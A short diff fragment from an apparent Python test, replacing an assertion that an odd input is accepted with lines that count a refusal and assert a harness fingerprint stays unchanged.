-    assert check(db, odd) == "accepted"  # flagged, kept as exported, not silently fixed
+    TOTALS["refused"] += 1
+    assert harness.fingerprint() == before
